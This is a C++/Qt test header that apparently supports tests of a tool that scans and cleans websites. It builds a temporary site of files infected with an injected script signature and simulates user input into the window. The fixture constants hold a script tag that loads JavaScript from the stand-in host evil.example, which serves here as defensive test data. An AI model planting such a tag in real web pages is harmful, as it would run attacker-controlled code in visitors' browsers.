// What the window tests share: a main window over recording dialogs and shell,
// a temporary site to scan, and input given as a user gives it.
#pragma once

#include <unistd.h>

#include <QAbstractButton>
#include <QApplication>
#include <QComboBox>
#include <QFile>
#include <QLineEdit>
#include <QPlainTextEdit>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>

#include <functional>
#include <memory>

#include "recorders.h"
#include "testsupport.h"
#include "ui/form1.h"
#include "ui/form2.h"
#include "ui/wrapbutton.h"

using namespace Qt::StringLiterals;

inline const QByteArray kSignature = "<script src=http://evil.example/x.js></script>";
inline const QByteArray kInfected =
    "<html>\r\n<SCRIPT SRC=http://evil.example/x.js></script>\r\n</html>";
inline const QByteArray kClean = "<html>\r\n<p>nothing here</p>\r\n</html>";

// Runs `f` at the scan's next yield (the next time events are handled).
inline void atNextYield(std::function<void()> f) {
  QTimer::singleShot(0, qApp, std::move(f));
}

// Runs `f` each time the event loop handles posted events, until it returns
// false: a posted call waits for the next handling of events.
inline void onEachEventHandling(QObject* context, std::function<bool()> f) {
  QMetaObject::invokeMethod(
      context,
      [context, f] {
        if (f())
          onEachEventHandling(context, f);
      },
      Qt::QueuedConnection);
}

// Sets an editable box's text as a user would: select all, then type.
inline void typeInto(QComboBox* box, const QString& text) {
  box->lineEdit()->selectAll();
  QTest::keyClick(box->lineEdit(), Qt::Key_Delete);
  QTest::keyClicks(box->lineEdit(), text);
}

inline void typeInto(QPlainTextEdit* box, const QString& text) {
  box->setFocus();
  QTest::keyClick(box, Qt::Key_A, Qt::ControlModifier);
  QTest::keyClick(box, Qt::Key_Delete);
  for (const QString& line : text.split(u'\n')) {
    if (line != text.split(u'\n').first())
      QTest::keyClick(box, Qt::Key_Return);
    QTest::keyClicks(box, line);
  }
}

inline void click(QAbstractButton* button) {
  QTest::mouseClick(button, Qt::LeftButton);
}

inline QStringList comboItems(const QComboBox* box) {
  QStringList out;
  for (int i = 0; i < box->count(); ++i)
    out.append(box->itemText(i));
  return out;
}

inline QString plain(const QPlainTextEdit* box) {
  return box->toPlainText();
}

class WindowFixture {
 protected:
  std::unique_ptr<RecordingDialogs> dialogs;
  std::unique_ptr<RecordingShell> shell;
  std::unique_ptr<Form1> form;
  std::unique_ptr<TempTree> tree;

  // A loaded main window and an empty tree; the caller waits for the window.
  void openWindow() {
    dialogs = std::make_unique<RecordingDialogs>();
    shell = std::make_unique<RecordingShell>();
    form = std::make_unique<Form1>(*dialogs, *shell);
    form->Form_Load();
    tree = std::make_unique<TempTree>();
  }
  void closeWindow() {
    form.reset();
    tree.reset();
  }

  // A tree with infected files in its root and in two subfolders.
  void makeSite() {
    tree->write("index.htm", kInfected);
    tree->write("about.htm", kClean);
    tree->write("news/list.htm", kInfected);
    tree->write("news/old/archive.htm", kInfected);
    tree->write("style.css", kInfected);
  }
  // Location, filter and signature, entered through the widgets.
  void prepareScan(const QString& location, const QString& filter) {
    typeInto(form->Combo1, location);
    typeInto(form->Combo2, filter);
    typeInto(form->Text3, QString::fromLatin1(kSignature));
  }
  QString at(const QByteArray& rel) const { return tree->path(rel); }
};

// Nothing of the user's: a home of our own for the folder dialog.
template <class Test>
int runWindowTests(int argc, char** argv) {
  QTemporaryDir home;
  qputenv("HOME", QFile::encodeName(home.path()));
  qputenv("XDG_CONFIG_HOME", QFile::encodeName(home.path() + u"/.config"_s));
  if (qEnvironmentVariableIsEmpty("QT_QPA_PLATFORM"))
    qputenv("QT_QPA_PLATFORM", "offscreen");
  QApplication app(argc, argv);
  Test test;
  return QTest::qExec(&test, argc, argv);
}
